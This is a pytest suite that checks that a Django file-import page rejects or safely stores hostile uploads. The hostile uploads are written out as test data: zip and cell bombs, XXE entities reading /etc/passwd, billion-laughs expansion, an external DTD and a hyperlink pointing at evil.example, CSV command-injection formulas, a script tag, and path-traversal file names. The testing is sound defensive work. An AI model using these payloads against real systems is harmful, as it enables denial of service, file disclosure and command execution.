"""Files that mean harm or have suffered it: refused with a sentence or read as what they say, and soon."""

import io
import random
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook

from accounts.models import User
from curation.models import Record
from desk.importing import limits, uploading
from desk.models import Batch
from tests.pages import read
from tests.people import browser

pytestmark = pytest.mark.usefixtures("empty")

SOON = 5  # seconds
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


@pytest.fixture
def desk(curator: User) -> Client:
    return browser(curator)


def sent(desk: Client, name: str, content: bytes) -> Any:
    """Handed in as a file of actors, through the page."""
    file = SimpleUploadedFile(name, content)
    return desk.post("/en/desk/import/new/", {"holds": "actor", "source": "A list", "file": file})


# Workbooks, written by hand where no program would write them so


def book(*rows: list[Any], change: Callable[[Workbook], object] = lambda made: None) -> bytes:
    made = Workbook()
    for row in rows:
        made.active.append(row)  # type: ignore[union-attr]
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def by_hand(
    sheet: str, *, before: str = "", more: dict[str, bytes] | None = None, size: str = "A1:A2"
) -> bytes:
    """The smallest workbook there is, with this in its sheet and this before the sheet's first element."""
    members: dict[str, bytes] = {
        "[Content_Types].xml": (
            f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels"'
            ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}.worksheet+xml"/></Types>'
        ).encode(),
        "_rels/.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1"'
            f' Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1"'
            f' Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ).encode(),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}">'
            f'<dimension ref="{size}"/><sheetData>{sheet}</sheetData></worksheet>'
        ).encode(),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in (members | (more or {})).items():
            packed.writestr(name, content)
    return out.getvalue()


def cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


ROWS = f'<row r="1">{cell("A1", "Dansk navn")}</row><row r="2">{cell("A2", "Bomben")}</row>'


def bomb_of_size() -> bytes:
    """Sixty million spaces, which pack to almost nothing."""
    return by_hand(ROWS, more={"xl/media/a.bin": b" " * 60_000_000})


def bomb_of_members() -> bytes:
    return by_hand(ROWS, more={f"xl/media/{number}.bin": b"x" for number in range(400)})


def bomb_of_ratio() -> bytes:
    return by_hand(ROWS + " " * 20_000_000)


def file_of_this_machine() -> bytes:
    """What XML may ask for: a file, and a billion laughs."""
    told = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return by_hand(ROWS.replace("Bomben", "&e;"), before=told)


def billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    told = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>'
    return by_hand(ROWS.replace("Bomben", "&l9;"), before=told)


def shared_strings_of_this_machine() -> bytes:
    """The same, hidden in another member."""
    told = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    strings = f'<?xml version="1.0"?>{told}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return by_hand(ROWS, more={"xl/sharedStrings.xml": strings.encode()})


def wide() -> bytes:
    return (";".join(f"K{n}" for n in range(5000)) + "\n" + ";".join("x" * 5000)).encode()


def wide_by_reference() -> bytes:
    """One cell in the last column there is, so that a reader would fill sixteen thousand before it."""
    rows = "".join(f'<row r="{n}">{cell(f"XFD{n}", "x")}</row>' for n in range(1, 500))
    return by_hand(rows)


def long() -> bytes:
    return ("Dansk navn\n" + "En\n" * 60_000).encode()


def long_by_reference() -> bytes:
    """One cell in the last row there is, so that a reader would fill a million before it."""
    return by_hand(
        f'<row r="1">{cell("A1", "Dansk navn")}</row><row r="1048576">{cell("A1048576", "x")}</row>'
    )


def huge_cell() -> bytes:
    return ("Dansk navn\n" + "x" * 200_000 + "\n").encode()


def formula() -> bytes:
    return book(["Dansk navn"], ['=HYPERLINK("https://evil.example","Klik")'])


def formula_with_a_value() -> bytes:
    """What Excel saves: the formula and what it last showed."""
    shown = '<row r="2"><c r="A2" t="str"><f>CONCAT("A","B")</f><v>Vist</v></c></row>'
    return by_hand(f'<row r="1">{cell("A1", "Dansk navn")}</row>{shown}')


def external_link() -> bytes:
    link = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}"><externalBook r:id="rId1"/></externalLink>'
    ).encode()
    return by_hand(ROWS, more={"xl/externalLinks/externalLink1.xml": link})


def macros() -> bytes:
    return by_hand(ROWS, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()" * 50})


def with_a_password() -> bytes:
    """What Excel makes of a workbook with a password: an old compound file, not a zip."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 200


def zip_with_a_password() -> bytes:
    made = bytearray(by_hand(ROWS))
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = made.find(mark)
        made[place + at] |= 1
    return bytes(made)


def padded(sheet: str, **more: str) -> bytes:
    """With as much noise beside it as keeps the file from unpacking to a hundred times its size."""
    members = {f"xl/{name}.xml": content.encode() for name, content in more.items()}
    return by_hand(sheet, more={"xl/media/a.bin": random.Random(1).randbytes(500_000), **members})


def bomb_of_cells() -> bytes:
    """Eight million cells in one row, which a reader makes eight million objects of."""
    return padded(f'<row r="1">{"<c/>" * 8_000_000}</row>')


def bomb_of_texts() -> bytes:
    return padded(ROWS, sharedStrings=f'<sst xmlns="{MAIN}">{"<si/>" * 8_000_000}</sst>')


def bomb_of_rows() -> bytes:
    return padded("<row></row>" * 3_000_000)


def bomb_of_styles() -> bytes:
    """Each is a large object to a reader: half a minute and gigabytes."""
    return padded(
        ROWS, styles=f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 1_500_000}</cellXfs></styleSheet>'
    )


def bomb_of_far_cells() -> bytes:
    """Nothing in the last column there is, in each row: a reader fills in three hundred million cells."""
    return padded(ROWS + "".join(f'<row r="{n}"><c r="XFD{n}"/></row>' for n in range(3, 19_000)))


def formulas_of_one_another() -> bytes:
    """A long formula that hundreds of cells share, each of which a reader would work it out for."""
    shared = '<f t="shared" si="0"/>'
    formula = f'<f t="shared" si="0" ref="A2:A400">{"A1+" * 20_000}A1</f>'
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str">{formula if n == 2 else shared}<v>Bomben</v></c></row>'
        for n in range(2, 400)
    )
    return padded(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}')


def packed_badly() -> bytes:
    """The sheet's own bytes are none that can be unpacked, though the list of members is sound."""
    made = bytearray(by_hand(ROWS))
    at = made.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    made[at : at + 20] = b"\xff" * 20
    return bytes(made)


def name_that_is_no_text() -> bytes:
    """A member whose name says it is UTF-8 and is not."""
    made = bytearray(by_hand(ROWS, more={"xl/ø.bin": b"x"}))
    for at in (made.find("ø".encode()), made.rfind("ø".encode())):
        made[at : at + 2] = b"\xff\xff"
    return bytes(made)


def string_that_is_nowhere() -> bytes:
    return by_hand('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')


def laughs_in_other_letters() -> bytes:
    """Instructions in UTF-16, which nobody finds who looks for them as they are mostly written."""
    told = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "ha">]>'
    strings = f'{told}<sst xmlns="{MAIN}"><si><t>&e;</t></si></sst>'
    return by_hand(ROWS, more={"xl/sharedStrings.xml": strings.encode("utf-16")})


def instructions_far_down() -> bytes:
    told = f'<!--{" " * 3000}--><!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'
    return by_hand(ROWS, before=told)


def empty_rows() -> bytes:
    return b"Dansk navn\nEn\n" + b"\n" * 9_000_000


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "bomb of size": ("a.xlsx", bomb_of_size, "unpacks to more"),
    "bomb of members": ("a.xlsx", bomb_of_members, "unpacks to more"),
    "bomb of ratio": ("a.xlsx", bomb_of_ratio, "unpacks to more"),
    "bomb of cells": ("a.xlsx", bomb_of_cells, "unpacks to more"),
    "bomb of texts": ("a.xlsx", bomb_of_texts, "unpacks to more"),
    "bomb of rows": ("a.xlsx", bomb_of_rows, "unpacks to more"),
    "file of this machine": ("a.xlsx", file_of_this_machine, "instructions"),
    "billion laughs": ("a.xlsx", billion_laughs, "instructions"),
    "entity in another member": ("a.xlsx", shared_strings_of_this_machine, "instructions"),
    "old excel": ("a.xls", with_a_password, "old Excel file"),
    "password": ("a.xlsx", with_a_password, "old Excel file"),
    "zip with a password": ("a.xlsx", zip_with_a_password, "password"),
    "wide": ("a.csv", wide, "more than 200 columns"),
    "wide by reference": ("a.xlsx", wide_by_reference, "more than 200 columns"),
    "long": ("a.csv", long, "more than 10,000 rows"),
    "long by reference": ("a.xlsx", long_by_reference, "more than 10,000 rows"),
    "huge cell": ("a.csv", huge_cell, "32,000 characters"),
    "truncated zip": ("a.xlsx", lambda: by_hand(ROWS)[:-40], "cannot be read"),
    "zip of nothing": ("a.xlsx", lambda: b"PK\x03\x04" + b"\0" * 3000, "cannot be read"),
    "nul": ("a.csv", lambda: b"Navn;Kilde\nA\x00b;x\n", "neither a table"),
    "utf-16 without its mark": ("a.csv", lambda: "Navn;Kilde\nÆ;x\n".encode("utf-16-le"), "neither a table"),
    "mojibake": ("a.csv", "Navn\nKÃ¸benhavn\n".encode, "were broken"),
    "formula": ("a.xlsx", formula, "has no value"),
    "picture": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "cannot be read"),
    "empty": ("a.csv", lambda: b"", "is empty"),
    "white space": ("a.csv", lambda: b" \r\n\t\r\n", "is empty"),
    "only headings": ("a.csv", "Dansk navn;Kilde\n".encode, "no rows"),
    "headings twice": ("a.csv", lambda: b"Navn;NAVN\na;b\n", "Two columns"),
    "packed badly": ("a.xlsx", packed_badly, "cannot be read"),
    "a name that is no text": ("a.xlsx", name_that_is_no_text, "cannot be read"),
    "a string that is nowhere": ("a.xlsx", string_that_is_nowhere, "cannot be read"),
    "laughs in other letters": ("a.xlsx", laughs_in_other_letters, "instructions"),
    "bomb of styles": ("a.xlsx", bomb_of_styles, "unpacks to more"),
    "bomb of far cells": ("a.xlsx", bomb_of_far_cells, "unpacks to more"),
    "instructions far down": ("a.xlsx", instructions_far_down, "instructions"),
    "empty rows": ("a.csv", empty_rows, "more than 10,000 rows"),
    "quotes never closed": ("a.csv", lambda: b'Navn;Kilde\n"a;b\n' * 5000, "cannot be read"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_what_is_refused_is_refused_soon_and_says_why(desk: Client, name: str) -> None:
    file_name, made, why = HOSTILE[name]
    content = made()
    began = time.process_time()
    response = sent(desk, file_name, content)
    assert time.process_time() - began < SOON
    assert response.status_code == 422
    page = read(response)
    assert why in page.by_id("f-file_error").text
    assert page.by_id("f-source").text == "A list"
    assert page.one("option", selected="").attrs["value"] == "actor"
    assert (Batch.objects.count(), Record.objects.count()) == (0, 0)


def a_million_rows_of_nothing() -> bytes:
    """A sheet that says it is as large as a sheet can be, as one has whose every row was painted once."""
    rows = "".join(f'<row r="{number}">{cell(f"A{number}", "Bomben")}</row>' for number in range(2, 400))
    return by_hand(f'<row r="1">{cell("A1", "Dansk navn")}</row>{rows}', size="A1:XFD1048576")


READ: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a size that is not so": ("a.xlsx", lambda: by_hand(ROWS, size="A1"), "Bomben"),
    "a million rows of nothing": ("a.xlsx", a_million_rows_of_nothing, "Bomben"),
    "formula with a value": ("a.xlsx", formula_with_a_value, "Vist"),
    "formulas of one another": ("a.xlsx", formulas_of_one_another, "Bomben"),
    "external link": ("a.xlsx", external_link, "Bomben"),
    "macros": ("a.xlsm", macros, "Bomben"),
    "formula in text": ("a.csv", "Dansk navn\n=cmd|'/c calc'!A1\n".encode, "=cmd|'/c calc'!A1"),
    "script": ("a.csv", "Dansk navn\n<script>alert(1)</script>\n".encode, "<script>alert(1)"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(READ))
def test_what_is_harmless_is_read_as_what_it_says(desk: Client, name: str) -> None:
    file_name, made, said = READ[name]
    content = made()
    began = time.process_time()
    response = sent(desk, file_name, content)
    assert time.process_time() - began < SOON
    assert response.status_code == 302
    row = Batch.objects.get().rows.order_by("number")[0]
    assert said in row.cells[0]
    page = desk.get(f"/en/desk/import/{row.batch_id}/", {"show": "all"})
    assert said in read(page).by_id(f"row-{row.number}").text


class Counted(io.BytesIO):
    """A body that tells how much of it was read."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        found = super().read(size)
        self.taken += len(found)
        return found


MARK = "xYz"


def body(content: bytes, name: str, holds: str) -> bytes:
    """What a browser would send, or a client that is none."""
    fields = "".join(
        f'--{MARK}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'
        for field, value in (("holds", holds), ("source", "A list"))
    )
    head = f'--{MARK}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
    return f"{fields}{head}".encode() + content + f"\r\n--{MARK}--\r\n".encode()


def sent_raw(desk: Client, content: bytes) -> tuple[Any, int]:
    """The answer, and how much of the body was read for it."""
    told = Counted(content)
    extra: Any = {
        "wsgi.input": told,
        "CONTENT_LENGTH": str(len(content)),
        "CONTENT_TYPE": f"multipart/form-data; boundary={MARK}",
    }
    return desk.generic("POST", "/en/desk/import/new/", **extra), told.taken


@pytest.mark.parametrize(
    ("name", "kept"),
    [("../../etc/passwd", "passwd"), ("a\tb\u202ec.csv", "abc.csv"), ("x" * 900 + ".csv", ""),
     ("æ<b>.csv", "æ<b>.csv"), ("C:\\mine\\å.csv", "å.csv")],
    ids=["path", "signs", "long", "markup", "windows"],
)  # fmt: skip
def test_a_files_name_is_only_a_name(desk: Client, name: str, kept: str) -> None:
    response, _read = sent_raw(desk, body("Dansk navn\nØlab\n".encode(), name, "actor"))
    assert response.status_code == 302
    found = Batch.objects.get().file_name
    assert found == kept or (not kept and len(found) == 200)
    assert "<b>" not in desk.get("/desk/import/").text


@pytest.mark.parametrize(("size", "whole"), [(300_000, True), (4_000_000, False)], ids=["larger", "huge"])
def test_a_file_that_is_too_large_is_not_kept_and_the_form_is(
    desk: Client, monkeypatch: pytest.MonkeyPatch, size: int, whole: bool
) -> None:
    """A little more is let go by, so that a browser gets its answer; much more is not read to its end."""
    monkeypatch.setattr(uploading, "MOST_BYTES", 200_000)
    monkeypatch.setattr(uploading, "LET_BY", 1_000_000)
    content = body(b"x" * size, "a.csv", "need")
    response, taken = sent_raw(desk, content)
    assert response.status_code == 422
    page = read(response)
    assert "larger than 10 MB" in page.by_id("f-file_error").text
    assert page.by_id("f-source").text == "A list"
    assert page.one("option", selected="").attrs["value"] == "need"
    assert taken == len(content) if whole else taken < 500_000
    assert not Batch.objects.exists()


def test_limits_are_those_of_the_reader() -> None:
    """The page says 10 MB."""
    assert limits.MOST_BYTES == 10 * 1024 * 1024
    assert [f"{uploading.__name__}.BoundedUploadHandler"] == settings.FILE_UPLOAD_HANDLERS
